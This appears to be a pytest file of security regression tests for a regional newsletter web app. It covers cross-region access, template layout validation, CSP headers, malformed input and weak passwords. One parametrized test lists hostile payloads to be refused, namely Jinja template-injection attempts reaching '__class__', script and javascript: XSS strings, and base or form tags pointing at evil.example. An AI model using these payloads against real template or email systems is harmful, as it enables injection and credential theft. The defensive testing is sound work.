"""What the outside review of the hardening found, each as the attack it made."""

import io

import pytest
from PIL import Image as PILImage
from sqlalchemy import func, select

from core.auth import AccountError, check_password_strength
from core.db import db
from core.models import Region, Role
from newsletter.audience.models import ImportBatch, MailingList, Segment
from newsletter.campaigns.layouts import STARTER, LayoutError, check_layout
from newsletter.campaigns.models import Campaign, CampaignStatus
from newsletter.campaigns.rendering import compile_campaign
from tests import factories
from tests.http import csrf_token


def ids(app, region_slug: str) -> tuple[int, int]:
    with app.app_context():
        region = db.session.scalar(select(Region).where(Region.slug == region_slug))
        list_id = db.session.scalar(
            select(MailingList.id).where(
                MailingList.slug == f"newsletter-{region_slug}"
            )
        )
        return region.id, list_id


def test_an_import_into_the_own_region_cannot_name_another_regions_list(
    app, client, login_as
):
    login_as(Role.MANAGER, "dortmund")
    own_region, _own_list = ids(app, "dortmund")
    _swf_region, swf_list = ids(app, "suedwestfalen")
    page = client.get("/subscribers/import").get_data(as_text=True)
    response = client.post(
        "/subscribers/import",
        data={
            "csrf_token": csrf_token(page),
            "region_id": own_region,
            "lists": [str(swf_list)],
            "file": (io.BytesIO(b"email\r\nx@example.org\r\n"), "k.csv"),
        },
        content_type="multipart/form-data",
    )
    assert response.status_code == 404
    with app.app_context():
        assert db.session.scalar(select(func.count()).select_from(ImportBatch)) == 0


@pytest.mark.parametrize("char", ["\uffff", "\ufffe", "\x85", "\x9b"])
def test_characters_xml_cannot_hold_are_refused(client, char):
    page = client.get("/anmelden/dortmund").get_data(as_text=True)
    response = client.post(
        "/anmelden/dortmund",
        data={"csrf_token": csrf_token(page), "email": "a@example.org", "name": char},
    )
    assert response.status_code == 400


def test_the_xlsx_writer_drops_characters_xml_cannot_hold():
    from openpyxl import load_workbook

    from core.spreadsheet import xlsx_bytes

    data = xlsx_bytes([("t", ["h"], [["a\uffffb\x85c\ud800d"]])])
    assert load_workbook(io.BytesIO(data)).active["A2"].value == "abcd"


@pytest.mark.parametrize(
    "payload",
    [
        "{% include 'x' %}",
        "{% import 'x' as y %}",
        "{% from 'x' import y %}",
        "{% extends 'x' %}",
        "{{ region|sum }}",
        "{{ region|groupby('x') }}",
        '{{ "{0.__class__}"|format(region) }}',
        "{% filter attr('__class__') %}x{% endfilter %}",
        "<mj-text><b>unclosed</mj-text>",
        "<mj-raw><script>alert(1)</script></mj-raw>",
        '<mj-raw><base href="https://evil.example/"></mj-raw>',
        '<mj-raw><form action="https://evil.example/steal"></form></mj-raw>',
        '<mj-text><a href="javascript:alert(1)">x</a></mj-text>',
        '<mj-text><a href="{{ first_name }}javascript:alert(1)">x</a></mj-text>',
        '<mj-text><b onclick="alert(1)">x</b></mj-text>',
    ],
)
def test_a_layout_that_would_break_or_attack_is_refused_at_save(app, payload):
    source = STARTER.replace("{{ content }}", "{{ content }}\n" + payload)
    with app.app_context(), app.test_request_context(), pytest.raises(LayoutError):
        check_layout(source)


def test_a_stored_layout_that_breaks_falls_back_to_the_standard_one(app):
    with app.app_context():
        region = db.session.scalar(select(Region).where(Region.slug == "dortmund"))
        region.custom_layout = STARTER.replace("{{ content }}", "{{ content }}{{ x(")
        db.session.commit()
    campaign_id = factories.made_in(
        app, factories.campaign, region="dortmund", status=CampaignStatus.SENT
    )
    with app.app_context(), app.test_request_context():
        compiled = compile_campaign(db.session.get(Campaign, campaign_id), "de")
    assert "Märzausgabe" in compiled.html or compiled.html


def test_the_web_version_may_not_run_script_forms_or_base(app, client):
    campaign_id = factories.made_in(
        app, factories.campaign, region="dortmund", status=CampaignStatus.SENT
    )
    policy = client.get(f"/ausgabe/{campaign_id}").headers["Content-Security-Policy"]
    assert "base-uri 'none'" in policy
    assert "form-action 'none'" in policy


@pytest.mark.parametrize("name", ["list_id", "district_id", "topic_id"])
def test_a_huge_id_in_a_filter_is_not_an_error(client, login_as, name):
    login_as(Role.MANAGER, "dortmund")
    huge = "99999999999999999999"
    assert client.get(f"/subscribers?{name}={huge}").status_code == 200
    assert client.get(f"/subscribers?{name}=-5").status_code == 200
    assert client.get(f"/subscribers/export.xlsx?{name}={huge}").status_code == 200


def test_a_segment_keeps_only_ids_of_its_region(app, client, login_as):
    login_as(Role.MANAGER, "dortmund")
    _swf_region, swf_list = ids(app, "suedwestfalen")
    page = client.get("/subscribers").get_data(as_text=True)
    client.post(
        "/segments",
        data={
            "csrf_token": csrf_token(page),
            "name": "Fremd",
            "list_id": str(swf_list),
        },
    )
    client.post(
        "/segments",
        data={
            "csrf_token": csrf_token(page),
            "name": "Riesig",
            "list_id": "99999999999999999999",
        },
    )
    assert client.get("/segments").status_code == 200
    with app.app_context():
        filters = [s.filters for s in db.session.scalars(select(Segment))]
    assert all(f.get("list_id") in (None, "") for f in filters), filters


@pytest.mark.parametrize("size", [(3000, 1), (5000, 2), (65535, 1)])
def test_a_very_flat_picture_is_taken(app, size):
    from newsletter.campaigns.images import store_image

    output = io.BytesIO()
    PILImage.new("RGB", size).save(output, "PNG")
    with app.app_context():
        image = store_image(db.session, output.getvalue(), None)
    assert image.height >= 1


def test_a_csv_with_a_giant_field_gets_a_message(app):
    from newsletter.audience.import_files import ImportFileError, read_table

    content = ("email,notes\r\na@example.org," + "x" * 200_000 + "\r\n").encode()
    with pytest.raises(ImportFileError):
        read_table("k.csv", content)


@pytest.mark.parametrize(
    "password",
    ["bruecke-demo-2026", "brueckenschlag", "Brueckenschlag", "brueckenschlag2026"],
)
def test_the_products_own_words_are_refused_as_passwords(password):
    with pytest.raises(AccountError):
        check_password_strength(password, "new@agentur.example", "Neu")
